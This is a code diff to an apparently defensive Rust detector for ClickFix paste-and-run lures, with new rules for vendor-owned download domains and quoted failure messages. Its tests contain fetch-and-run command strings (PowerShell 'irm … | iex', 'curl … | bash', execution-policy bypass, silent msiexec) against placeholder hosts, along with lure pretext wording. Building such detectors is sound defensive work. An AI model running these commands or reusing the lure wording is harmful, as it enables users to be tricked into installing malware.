@@ -52,9 +52,6 @@ const TYPED_AFTER: usize = 1500;
 /// Bytes between two half-weight run places that name one place ("open File Explorer, click the
 /// address bar").
 const RUN_PLACE_PAIR: usize = 120;
-/// Weight that marks a `fix_pretext` phrase as the page's own failure ("failed to load", "could
-/// not be displayed", "an error occurred"): a kit's fake error, never a help page's problem.
-const PAGE_FAILURE: f32 = 0.9;
 
 /// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -223,6 +220,30 @@ impl Command {
         !page_site.is_empty()
             && !self.https_sites.is_empty()
             && self.https_sites.iter().all(|s| s == page_site)
+    }
+
+    /// Fetches only over https from domains the page's site name owns (`notewise-cdn.example`
+    /// on notewise.example) or from a code host under an owner so named
+    /// (`raw.githubusercontent.com/notewise-app/…`): a vendor's copy button for its installer,
+    /// which a kit must register a domain or an account per site to copy (review 35 CX35-H2).
+    #[inline(never)]
+    fn fetches_from_owned(&self, page_site: &str) -> bool {
+        let name = page_site.split('.').next().unwrap_or("");
+        let f = self.flat.as_bytes();
+        // (Every `com/` in it starts the owner's name: `github.com/notewise-app/…`.)
+        let owner = (0..f.len())
+            .filter(|&i| f[i..].starts_with(b"com/"))
+            .all(|i| {
+                f[i + 4..].starts_with(name.as_bytes())
+                    && matches!(f.get(i + 4 + name.len()), Some(b'-' | b'/'))
+            });
+        name.len() >= 4
+            && !self.https_sites.is_empty()
+            && self.https_sites.iter().all(|s| {
+                s.strip_prefix(name)
+                    .is_some_and(|r| matches!(r.bytes().next(), Some(b'-' | b'.')))
+                    || owner && matches!(s.as_str(), "github.com" | "githubusercontent.com")
+            })
     }
 
     /// Fetches from where no installer is published: 2 for a public IP (any scheme) or a share
@@ -1379,6 +1400,7 @@ impl PageHits {
                         | Cat::RunTerminal
                         | Cat::VerifyHuman
                         | Cat::FixPretext
+                        | Cat::PageFailure
                         | Cat::InstallDocs
                         | Cat::Troubleshooting
                         | Cat::Conditional
@@ -1546,7 +1568,7 @@ impl PageHits {
     fn story(&self) -> impl Iterator<Item = &Hit> {
         self.hits.iter().filter(|h| {
             let told = match h.cat {
-                Cat::FixPretext | Cat::Error | Cat::System => true,
+                Cat::FixPretext | Cat::PageFailure | Cat::Error | Cat::System => true,
                 Cat::Infection => self
                     .of(Cat::Victim)
                     .any(|v| v.start.max(h.start) - v.end.min(h.end) <= CLAIM_REACH),
@@ -1583,27 +1605,43 @@ impl PageHits {
     }
 
     /// A failure the page quotes, asks about or lists as a known issue, not one it claims
-    /// (`DeskPlan shows 'Something went wrong'`, "« Impossible d'afficher » : que faire ?",
-    /// "Known issue: …"): a help page's topic. A quote opened in the failure's clause before it
-    /// (a name quoted there, closed, still counts: review 34 CF34-M1, left); the `?` ends the
-    /// failure's own clause.
+    /// (`DeskPlan shows 'Something went wrong'`, "« Impossible d'afficher » : que faire ?"): a
+    /// help page's topic. The quote is still open at the failure (a name quoted and closed before
+    /// it, 'The "Smile Booking" calendar did not load', claims it: review 34 CF34-M1); the `?`
+    /// ends the failure's own clause; a known-issue or troubleshooting heading lists it (600
+    /// bytes). (Review 34 CF34-M2, a kit's "Known issue:", left: neither the reader named nor a
+    /// version tells a KB from a kit, review 35 CX35-H1/H3.)
     #[inline(never)]
     fn described(&self, h: &Hit) -> bool {
         // Byte-wise: char-array patterns cost a kilobyte of Wasm here.
         let b = self.base.as_bytes();
-        let from = b[..h.start.min(b.len())]
-            .iter()
-            .rposition(|c| b".!?\n".contains(c))
-            .map_or(0, |i| i + 1);
-        let lead = self.base.get(from..h.start).unwrap_or("");
-        // A quote opened before the failure: a `'` starting a word, or one of `" “ „ ‘ « 「`.
-        let open = lead.bytes().enumerate().any(|(i, c)| {
-            c == b'\''
-                && i.checked_sub(1)
-                    .is_none_or(|j| !lead.as_bytes()[j].is_ascii_alphanumeric())
-        }) || ["\"", "“", "„", "‘", "«", "「"]
-            .iter()
-            .any(|q| has(lead, q));
+        let at = h.start.min(b.len());
+        let stop = |c: &u8| b".!?\n".contains(c);
+        let from = b[..at].iter().rposition(stop).map_or(0, |i| i + 1);
+        // Quotes opened and closed from the clause's start: `"`, « », “ ” „ ‘ and 「 」 turn
+        // it on or off (German „…“ and »…« as well as English “…”); `'` and ’ open a word, close
+        // one, or are an apostrophe (didn't, l’été).
+        let mut open = false;
+        for i in from..at {
+            let p = |k: usize| if k > i { b' ' } else { b[i - k] };
+            let word = |c: u8| c.is_ascii_alphanumeric() || c >= 0x80;
+            let e2 = p(1) == 0x80 && p(2) == 0xE2;
+            match b[i] {
+                b'"' => open = !open,
+                0xAB | 0xBB if p(1) == 0xC2 => open = !open,
+                0x98 | 0x9C | 0x9D | 0x9E if e2 => open = !open,
+                0x8C | 0x8D if p(1) == 0x80 && p(2) == 0xE3 => open = !open,
+                c @ (b'\'' | 0x99) if c == b'\'' || e2 => {
+                    if !word(p(if c == b'\'' { 1 } else { 3 })) {
+                        open = true;
+                    } else if !word(b.get(i + 1).copied().unwrap_or(b' ')) {
+                        open = false;
+                    }
+                }
+                _ => {}
+            }
+        }
+        // The failure's clause ends at the next stop or comma.
         let to = b
             .get(h.end..)
             .and_then(|r| r.iter().position(|c| b".!?,;\n".contains(c)));
@@ -2027,7 +2065,21 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // Install docs send people to PowerShell (Admin), the Run box or Terminal too ("press Win+X,
     // choose Terminal (Admin), paste"): with a command docs give and nothing dressing it up, they
     // are documentation; a lure always adds its story (verify, fix, update, open the file).
-    let docs = install_like && page.documents_install(&command);
+    // A download run kept off the page (neither the command nor how it starts shown) from
+    // another site than the page's: a fake download's "to install, press Win+R and paste" or
+    // "open Terminal and paste", which needs no story. Docs, help pages and tutorials show what
+    // their copy button copies.
+    // (A vendor's copy button for its installer on domains its name owns is read as before.)
+    let kept_off = !typed
+        && (run_dialog || terminal)
+        && !page.cut
+        && command.remote
+        && !command.fetches_from_site(&page.site)
+        && !command.fetches_from_owned(&page.site)
+        // (`msiexec /i https://…` alone is how IT pages deploy an agent: review 35 CX35-H2.)
+        && !command.shapes.iter().all(|s| *s == Shape::MsiexecUrl)
+        && !page.shows_head(&command);
+    let docs = install_like && !kept_off && page.documents_install(&command);
     // An IT help or vendor support page tells a story too ("Teams audio not working? To fix
     // it, press Win+X …"), but shows the very command it copies and fetches nothing, or only
     // from its own site; a lure hides its command or fetches from elsewhere. A kit on its own
@@ -2041,7 +2093,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     // reader's software.
     let own_fetch = command.fetches_from_site(&page.site)
         && page.story().all(|h| match h.cat {
-            Cat::FixPretext => h.weight > PAGE_FAILURE || page.described(h),
+            Cat::PageFailure => page.described(h),
             Cat::Error => install_words,
             _ => true,
         });
@@ -2052,7 +2104,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && page.weight(Cat::VerifyHuman) < GENERIC_VERIFY
         && page
             .story()
-            .all(|h| matches!(h.cat, Cat::FixPretext | Cat::Error));
+            .all(|h| matches!(h.cat, Cat::FixPretext | Cat::PageFailure | Cat::Error));
     let unc_only = command.shapes.iter().all(|s| *s == Shape::UncOpen);
     // Without a pretext only a share no IT page gives is a lure: WebDAV on another site or a
     // public IP. A named host (the organisation's software share) or the page's own WebDAV
@@ -2086,7 +2138,7 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
             .iter()
             .any(|s| matches!(s.cat, Cat::PasteStep | Cat::RunTerminal) && s.start >= v.end)
     });
-    let hidden_story = !shown && (page.story().next().is_some() || heads_steps);
+    let hidden_story = !shown && (page.story().next().is_some() || heads_steps) || kept_off;
     let mac_run = terminal
         && paste
         && !docs
@@ -2383,7 +2435,7 @@ mod tests {
                 "How to fix 'command not found': open Terminal, paste and press Return.\n{cmd}"
             ),
             format!("If your CLI is out of date, open Terminal, paste this, press Return: {cmd}"),
-            "Install. Open Terminal, paste the command and press Return.".to_string(),
+            format!("Install. Open Terminal, paste the command and press Return.\n{cmd}"),
         ] {
             assert!(!judged(cmd, &text), "{text}");
         }
@@ -2868,16 +2920,16 @@ mod tests {
         let docs =
             "Install. Run the following in your terminal, then press Enter. Paste that in a \
                     macOS Terminal or Linux shell prompt. Open Terminal (Cmd + Space, Terminal).";
-        assert!(!judged(
+        // (Docs show what their copy button copies.)
+        for clip in [
             "curl -fsSL https://example.test/install.sh | sh",
-            docs
-        ));
-        assert!(!judged(
             "/bin/bash -c \"$(curl -fsSL https://example.test/install.sh)\"",
-            docs
-        ));
-        assert!(!judged("npm install hangup-example", docs));
-        let win = "Open PowerShell and run this command, then press Enter. Copy with Ctrl+V.";
+            "npm install hangup-example",
+        ] {
+            assert!(!judged(clip, &format!("{docs}\n{clip}")), "{clip}");
+        }
+        let win = "Open PowerShell and run this command, then press Enter. Copy with Ctrl+V.\n\
+                   irm https://example.test/install.ps1 | iex";
         assert!(!judged("irm https://example.test/install.ps1 | iex", win));
         // A Unix install command with Windows words around it: Windows instructions do not
         // make a shell pipe ClickFix.
@@ -2924,7 +2976,7 @@ mod tests {
                  example and press Enter:\nirm https://tutorial.example.test/hello.ps1 | iex\nCopy",
             ),
         ] {
-            assert!(!judged(clip, text), "{text}");
+            assert!(!judged(clip, &format!("{text}\n{clip}")), "{text}");
         }
     }
 
@@ -3090,7 +3142,7 @@ mod tests {
             "Install the virtual camera plugin: press Win + X, choose Terminal (Admin), paste and \
              press Enter. Then pick it as your camera and microphone in your meeting app.",
         ] {
-            assert!(!judged(clip, text), "{text}");
+            assert!(!judged(clip, &format!("{text}\n{clip}")), "{text}");
         }
         // A project's docs serve their installer from their own site under any path; another
         // site's unnamed path is how lures fetch.
@@ -3114,8 +3166,10 @@ mod tests {
         // An infection named as a product is no story; one claimed about this PC is.
         assert!(!judged(
             clip,
-            "SentryScan is an open-source malware scanner for build servers. Installation: press \
-             Win + X, open Terminal (Admin), paste and press Enter."
+            &format!(
+                "SentryScan is an open-source malware scanner for build servers. Installation: \
+                 press Win + X, open Terminal (Admin), paste and press Enter.\n{clip}"
+            )
         ));
         assert!(judged(
             clip,
@@ -3249,12 +3303,15 @@ mod tests {
         let sh = "curl -fsSL https://get.example.test/install.sh | sh";
         assert!(!judged(
             sh,
-            "Open Terminal, paste and press Return.\nVerification steps: run tool --version."
+            &format!("Open Terminal, paste and press Return.\n{sh}\nVerification steps: run tool --version.")
         ));
+        let ps = "irm https://get.example.test/install.ps1 | iex";
         assert!(!judged(
-            "irm https://get.example.test/install.ps1 | iex",
-            "Installation: press Win + X, choose Terminal (Admin), paste and press Enter.\n\
-             Étapes de vérification : lancez tool --version."
+            ps,
+            &format!(
+                "Installation: press Win + X, choose Terminal (Admin), paste and press Enter.\n\
+             {ps}\nÉtapes de vérification : lancez tool --version."
+            )
         ));
         // Next to a command no docs give, with a CAPTCHA named, or as a command's own comment,
         // it is the lure's check.
@@ -3336,9 +3393,15 @@ mod tests {
             "curl -fsSL https://x.example/i | bash",
             "Verify you are human: open Terminal and paste"
         ));
-        assert!(!judged(
+        // Kept off the page, another site's script piped to a shell needs no story (thirty-fifth
+        // session); shown, it is what docs give.
+        assert!(judged(
             "curl -fsSL https://x.example/i | bash",
             "Open Terminal and paste it, press Return"
+        ));
+        assert!(!judged(
+            "curl -fsSL https://x.example/i | bash",
+            "Open Terminal and paste it, press Return:\ncurl -fsSL https://x.example/i | bash"
         ));
         // Install docs and tutorials for Terminal: a binary fetched over https and made
         // executable, an AppleScript one-liner that runs no shell; shown as copied or framed as
@@ -4625,6 +4688,104 @@ mod tests {
             "Known issue in Lakeside Desk 5.2\nAfter the update the calendar did not load for some customers.",
         ] {
             assert_eq!(run("https://www.lakeside-clinic.example/help", text), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn clickfix35_a_known_issue_on_the_readers_device_a_quoted_name_a_download_kept_off() {
+        // Review 34 CF34-M1: a name quoted and closed before the failure claims it; help pages
+        // quote, ask about or list theirs (invented sites and scripts).
+        let steps = "Press Windows + R, paste the line below and press Enter.";
+        let run = |host: &str, title: &str, text: &str| {
+            let c = format!("powershell -c \"irm https://{host}/static/fix.ps1 | iex\"");
+            reasons(&snap_of(
+                &format!("https://{host}/page"),
+                title,
+                &format!("{text}\n{steps}\n{c}"),
+                &c,
+            ))
+            .is_some()
+        };
+        for (host, text) in [
+            (
+                "www.harbor-rides.test",
+                "The “Harbor Rides” schedule failed to load. How to fix:",
+            ),
+            (
+                "www.praxis-sonnenhang.test",
+                "Der „Termin-Planer“ konnte nicht geladen werden. So beheben Sie es:",
+            ),
+            (
+                "www.gite-du-lac.test",
+                "Le module « Réserv'Lac » : erreur lors du chargement. Pour corriger :",
+            ),
+            (
+                "www.quickbook-salon.test",
+                "The 'QuickBook' widget didn't load. To fix this:",
+            ),
+            (
+                "www.estudio-yoga-sol.test",
+                "El calendario \"Sol Reservas\" no se pudo cargar. Para solucionarlo:",
+            ),
+            (
+                "www.cabinet-des-saules.test",
+                "Le planning des consultations ne s'est pas chargé correctement. Pour corriger :",
+            ),
+        ] {
+            assert!(run(host, "Book", text), "{text}");
+        }
+        for (host, title, text) in [
+            ("support.deskmate.example", "DeskMate 6.1", "Known issues\nAfter the 6.1 update the DeskMate planner did not load for some customers. Our repair script fixes it."),
+            ("hilfe.kassenblick.example", "Bekannte Probleme in Kassenblick 8.1", "Nach dem Update auf 8.1 konnte der Kalender bei einigen Kunden nicht geladen werden."),
+            ("support.deskmate.example", "DeskMate error", "When \"DeskMate\" starts it shows ‘Something went wrong’. Our repair script resets the cache."),
+            ("aide.agenda-pro.example", "Agenda Pro", "Agenda Pro affiche « Impossible d'afficher le calendrier » au démarrage."),
+            ("support.sakura-kaikei.example", "既知の問題", "バージョン 3.2 への更新後、一部のお客様で「エラーが発生しました」と表示されます。"),
+            ("support.planwerk.example", "Planwerk 2.4", "Bekende problemen\nNa de update naar 2.4 kon de agenda bij sommige klanten niet worden geladen."),
+            ("hilfe.belegbuch.example", "Belegbuch", "Bekanntes Problem: Nach dem Update auf 7.3 wurde Belegbuch bei einigen Kunden nicht korrekt geladen."),
+            // (KBs name the reader too: review 35 CX35-H1.)
+            ("support.deskmate.example", "DeskMate", "Known issue: after installing 6.2 the DeskMate planner did not load on your computer."),
+            ("help.roster-board.example", "Reset", "The dashboard didn't load after the update? Reset the app's settings."),
+        ] {
+            assert!(!run(host, title, text), "{text}");
+        }
+        // Another site's script or package saved and run, kept off the page, under install words
+        // alone (Windows run box, Mac Terminal); docs show what they copy, and the page's own
+        // site's installer is documentation as before.
+        let kit =
+            |url: &str, text: &str, clip: &str| reasons(&snap_of(url, "", text, clip)).is_some();
+        for (text, clip) in [
+            ("To install, press Windows + R, paste with Ctrl + V and press Enter.", r"powershell -c iwr https://dl.mediafiles-cdn.test/vc/setup.ps1 -OutFile $env:TEMP\vc.ps1; powershell -ep bypass -f $env:TEMP\vc.ps1"),
+            ("Para instalar el programa, pulse Windows + R, pegue con Ctrl + V y pulse Intro.", r"iwr https://archivos.cdn-descargas.test/lector.msi -OutFile $env:TEMP\lector.msi; msiexec /i $env:TEMP\lector.msi /qn"),
+            ("Druckertreiber installieren: Drücken Sie Windows + X, wählen Sie Terminal, fügen Sie mit Strg + V ein und drücken Sie Enter.", "irm https://pkg.treiber-cdn.test/install.ps1 | iex"),
+            ("Installer le lecteur : ouvrez le Terminal (Cmd + Espace, tapez Terminal), collez la commande avec Cmd + V et appuyez sur Entrée.", "curl -fsSL https://dl.mac-player-cdn.test/i.sh | bash"),
+            ("Para instalar las fuentes, abra Terminal, pegue el comando y pulse Intro.", "curl -so /tmp/.f https://static.fonts-mac-dl.test/f && chmod +x /tmp/.f && /tmp/.f"),
+            ("Macを高速化するには、ターミナルを開いてコマンドを貼り付け、Returnキーを押してください。", "zsh -c \"$(curl -s https://mac-fast-cdn.test/s)\""),
+        ] {
+            assert!(kit("https://free-tools-get.site/", text, clip), "{text}");
+            // The same page showing its command (a third party's tutorial) is read as before.
+            assert!(!kit("https://free-tools-get.site/", &format!("{text}\n{clip}\nCopy"), clip), "{text}");
+        }
+        // Not when another address rides along, or the owner is only a prefix of another name.
+        let text = "Install Quillpad: open Terminal and paste it, press Return.";
+        for clip in [
+            "curl -fsSL https://releases.quillpad-cdn.example/i.sh | bash; curl -s https://kit-cdn.test/x | sh",
+            "curl -fsSL https://raw.githubusercontent.com/quillpadx/install/main/i.sh | bash",
+            "curl -fsSL https://quillpad-cdn.example.kit-host.test/i.sh | bash",
+        ] {
+            assert!(kit("https://quillpad.example/download", text, clip), "{clip}");
+        }
+        for (url, text, clip) in [
+            ("https://docs.agente-flota.example/es/windows", "Instalar el agente en Windows: abra PowerShell como administrador (Windows + X, Terminal (administrador)) y pegue este comando:\niwr https://descargas.agente-flota-cdn.example/7.2/Agente.msi -OutFile $env:TEMP\\Agente.msi; msiexec /i $env:TEMP\\Agente.msi /qn\nCopiar", "iwr https://descargas.agente-flota-cdn.example/7.2/Agente.msi -OutFile $env:TEMP\\Agente.msi; msiexec /i $env:TEMP\\Agente.msi /qn"),
+            ("https://lanternapp.example/docs/windows", "Install Lantern: press Win + X, choose Terminal (Admin) and paste:\nPS> irm https://raw.githubusercontent.com/lanternapp/install/main/install.ps1 | iex", "irm https://raw.githubusercontent.com/lanternapp/install/main/install.ps1 | iex"),
+            ("https://docs.quill-sync.example/mac", "Install on macOS\nOpen Terminal and paste the command:\ncurl -fsSL https://downloads.quillsync-cdn.example/install.sh \\\n  | bash -s -- --channel stable", "curl -fsSL https://downloads.quillsync-cdn.example/install.sh | bash -s -- --channel stable"),
+            ("https://get.tern-cli.example/", "Install Tern: open Terminal and paste it, press Return.", "curl -fsSL https://get.tern-cli.example/install.sh | sh"),
+            // A vendor's copy button for its installer on a CDN or code host its name owns (review
+            // 35 CX35-H2).
+            ("https://quillpad.example/download", "Install Quillpad: open Terminal and paste it, press Return.", "curl -fsSL https://releases.quillpad-cdn.example/install.sh | bash"),
+            ("https://quillpad.example/download", "Install Quillpad: open Terminal and paste it, press Return.", "curl -fsSL https://raw.githubusercontent.com/quillpad/install/main/i.sh | bash"),
+            ("https://quillpad.example/windows", "Install Quillpad: press Win + X, choose Terminal (Admin), paste and press Enter.", "irm https://get.quillpad-cdn.example/install.ps1 | iex"),
+        ] {
+            assert!(!kit(url, text, clip), "{text}");
         }
     }
 
